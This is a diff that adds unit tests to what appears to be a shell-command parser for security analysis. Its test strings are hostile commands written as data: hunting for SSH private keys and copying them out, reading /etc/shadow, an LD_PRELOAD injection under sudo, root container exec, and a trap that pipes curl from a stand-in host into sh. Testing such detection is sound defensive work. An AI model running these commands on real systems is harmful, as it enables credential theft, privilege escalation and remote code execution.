@@ -88,3 +88,20 @@ def test_hostile_input_is_bounded():
     assert reader.read(long_text)[0].name == "echo"
     nested = "$(" * 5000 + ")" * 5000
     reader.read(nested)  # must return, not recurse without bound
+
+
+def test_words_after_a_mid_command_redirect_stay_with_the_command():
+    find_cmd = find("find / -name id_rsa 2>/dev/null -exec rsync -R {} /tmp/x \\;", "find")
+    assert find_cmd.args[-3:] == ["{}", "/tmp/x", ";"] and "2>/dev/null" in find_cmd.redirects
+    assert find("find / -name id_rsa 2>/dev/null -exec rsync -R {} /tmp/x \\;", "rsync").via == ("find",)
+
+
+def test_loop_redirections_reach_the_commands_inside():
+    assert find("while read l; do echo $l; done < /etc/shadow", "read").reads == ["/etc/shadow"]
+
+
+def test_sudo_environment_assignments_and_container_exec_and_traps():
+    assert find("sudo LD_PRELOAD=/tmp/x.so apache2", "apache2").env == {"LD_PRELOAD": "/tmp/x.so"}
+    assert find("kubectl exec -it pod -- bash -c 'cat /etc/shadow'", "cat").args == ["/etc/shadow"]
+    assert find("docker exec -u root web cat /etc/shadow", "cat").via == ("docker",)
+    assert "sh" in names("trap 'curl http://x.example/a | sh' DEBUG")
